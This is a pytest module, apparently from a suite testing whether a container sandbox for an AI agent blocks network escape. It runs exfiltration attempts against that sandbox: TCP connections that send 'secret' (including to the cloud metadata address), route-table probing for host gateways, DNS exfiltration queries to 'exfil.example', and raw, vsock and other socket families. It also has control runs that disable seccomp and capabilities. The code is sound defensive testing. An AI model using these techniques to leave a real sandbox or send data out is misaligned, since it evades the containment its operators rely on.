"""Cases 15 to 18: ways out of the container. It has no network, so each control gives it one."""

from __future__ import annotations

import os
import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from containment.conftest import Case
from containment.prelude import attempt, observe
from containment.sandboxes import Compose, Sandboxes, network

pytestmark = pytest.mark.engine


@contextmanager
def listening(host: str, kind: int = socket.SOCK_STREAM) -> Iterator[tuple[int, list[bytes]]]:
    """Listen on this machine, and note what arrives."""
    arrived: list[bytes] = []
    with socket.socket(socket.AF_INET, kind) as server:
        server.bind((host, 0))

        def serve() -> None:
            while True:
                try:
                    if kind == socket.SOCK_DGRAM:
                        arrived.append(server.recv(1000))
                        continue
                    with server.accept()[0] as client:
                        arrived.append(client.recv(1000))
                        client.sendall(b"hello")
                except OSError:
                    return

        if kind == socket.SOCK_STREAM:
            server.listen()
        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield server.getsockname()[1], arrived
        server.shutdown(socket.SHUT_RDWR) if kind == socket.SOCK_STREAM else server.sendto(b"", server.getsockname())


def test_15_direct_connections(sandboxes: Sandboxes, gateway: str, case: Case) -> None:
    def attack(hosts: list[tuple[str, int]]) -> None:
        seen = {}
        for host, port in hosts:
            with socket.socket() as client:
                client.settimeout(2)
                seen[host] = attempt(client.connect, (host, port))
                if seen[host] == "None":
                    client.sendall(b"secret")
        observe(seen=seen, interfaces=sorted(os.listdir("/sys/class/net")))

    with listening(gateway) as (port, arrived):
        hosts = [(gateway, port), ("1.1.1.1", 443), ("10.0.0.1", 80), ("192.168.0.1", 80), ("169.254.169.254", 80), ("172.18.0.2", port)]
        seen = sandboxes.attack(attack, given={"hosts": hosts}, proxy=True)
        before = len(arrived)
        control = sandboxes.attack(attack, given={"hosts": hosts[:1]}, without=network, proxy=True)
    case.judge(
        attempted=seen.observed.get("seen"),
        observed=str(seen.observed),
        contained=before == 0 and all("refused" in ended for ended in seen.observed["seen"].values()) and seen.observed["interfaces"] == ["lo"],
        control=f"with a network: {control.observed['seen']}",
        harmed=control.observed["seen"][gateway] == "None" and arrived == [b"secret"],
    )


def test_16_bridge_gateway_and_listeners_of_the_host(sandboxes: Sandboxes, gateway: str, case: Case) -> None:
    def attack(ports: list[int], guesses: list[str]) -> None:
        with open("/proc/net/route") as routes:
            named = [struct.pack("<L", int(line.split()[2], 16)) for line in list(routes)[1:]]
        reached = []
        for host in {*guesses, *(socket.inet_ntoa(raw) for raw in named)}:
            for port in ports:
                with socket.socket() as client:
                    client.settimeout(2)
                    if attempt(client.connect, (host, port)) == "None":
                        client.sendall(b"secret")
                        reached.append(host)
        observe(reached=reached, tried=len(guesses), gateways=len(named))

    with listening("0.0.0.0") as (port, arrived):
        guesses = [gateway, "172.17.0.1", "172.18.0.1", "172.19.0.1", "192.168.65.254"]
        seen = sandboxes.attack(attack, given={"ports": [port], "guesses": guesses})
        before = len(arrived)
        control = sandboxes.attack(attack, given={"ports": [port], "guesses": []}, without=network)
    case.judge(
        attempted=seen.observed.get("tried"),
        observed=str(seen.observed),
        contained=before == 0 and seen.observed["reached"] == [] and seen.observed["gateways"] == 0,
        control=f"with a network it reaches {control.observed['reached']}",
        harmed=len(control.observed["reached"]) > 0 and arrived == [b"secret"],
    )


def test_17_names_as_a_way_out(sandboxes: Sandboxes, gateway: str, case: Case) -> None:
    def attack(resolvers: list[tuple[str, int]], nonce: str) -> None:
        query = (
            b"\x12\x34\x01\x00\x00\x01"
            + bytes(6)
            + b"".join(bytes([len(part)]) + part.encode() for part in f"{nonce}.exfil.example".split("."))
            + b"\0\0\x10\0\x01"
        )
        sent = {}
        for host, port in resolvers:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                sent[host] = attempt(client.sendto, query, (host, port))
        observe(sent=sent, resolved=attempt(socket.getaddrinfo, f"{nonce}.exfil.example", 443))

    with listening(gateway, socket.SOCK_DGRAM) as (port, arrived):
        resolvers = [(gateway, port), ("127.0.0.11", 53), ("8.8.8.8", 53), ("1.1.1.1", 853)]
        seen = sandboxes.attack(attack, given={"resolvers": resolvers, "nonce": "contained"})
        control = sandboxes.attack(attack, given={"resolvers": resolvers[:1], "nonce": "control"}, without=network)
    case.judge(
        attempted=seen.observed.get("sent"),
        observed=str(seen.observed),
        contained=not any(b"contained" in query for query in arrived)
        and "refused" in seen.observed["resolved"]
        and all("refused" in ended for host, ended in seen.observed["sent"].items() if not host.startswith("127.")),
        control=f"with a network {control.observed['sent']}, the resolver saw {len(arrived)} query",
        harmed=any(b"control" in query for query in arrived),
    )


def test_18_other_protocols(sandboxes: Sandboxes, gateway: str, case: Case) -> None:
    def attack(host: str, port: int) -> None:
        def udp() -> None:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                client.sendto(b"secret", (host, port))

        def six() -> None:
            with socket.socket(socket.AF_INET6) as client:
                client.settimeout(2)
                client.connect(("2001:4860:4860::8888", 443))

        def raw(kind: int) -> None:
            with socket.socket(socket.AF_INET, socket.SOCK_RAW, kind) as client:
                client.sendto(bytes([8, 0, 0xF7, 0xFF, 0, 0, 0, 0]), (host, 0))

        def packet() -> None:
            socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()

        def vsock() -> None:
            socket.socket(socket.AF_VSOCK).close()

        def alg() -> None:
            socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET).close()

        def pair() -> None:
            first, second = socket.socketpair(socket.AF_VSOCK, socket.SOCK_STREAM)
            first.close()
            second.close()

        def ping() -> None:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as client:
                client.sendto(bytes([8, 0, 0xF7, 0xFF, 0, 0, 0, 0]), (host, 0))

        observe(udp=attempt(udp), ipv6=attempt(six), icmp=attempt(raw, socket.IPPROTO_ICMP), raw=attempt(raw, socket.IPPROTO_RAW), packet=attempt(packet), vsock=attempt(vsock), alg=attempt(alg), pair=attempt(pair), ping=attempt(ping))  # fmt: skip

    def open_network(compose: Compose) -> None:
        network(compose)
        compose["services"]["agent"] |= {"cap_drop": [], "user": "0:0", "security_opt": ["seccomp=unconfined"]}

    with listening(gateway, socket.SOCK_DGRAM) as (port, arrived):
        seen = sandboxes.attack(attack, given={"host": gateway, "port": port})
        before = len(arrived)
        control = sandboxes.attack(attack, given={"host": gateway, "port": port}, without=open_network)
    case.judge(
        attempted=seen.observed,
        observed=str(seen.observed),
        contained=before == 0
        and all(ended.startswith("refused") for ended in seen.observed.values())
        and all("EPERM" in seen.observed[name] for name in ("icmp", "raw", "packet", "vsock", "alg", "pair", "ping")),
        control=f"with a network and capabilities {control.observed}",
        harmed=all(control.observed[name] == "None" for name in ("udp", "icmp", "packet", "vsock")) and b"secret" in arrived,
    )
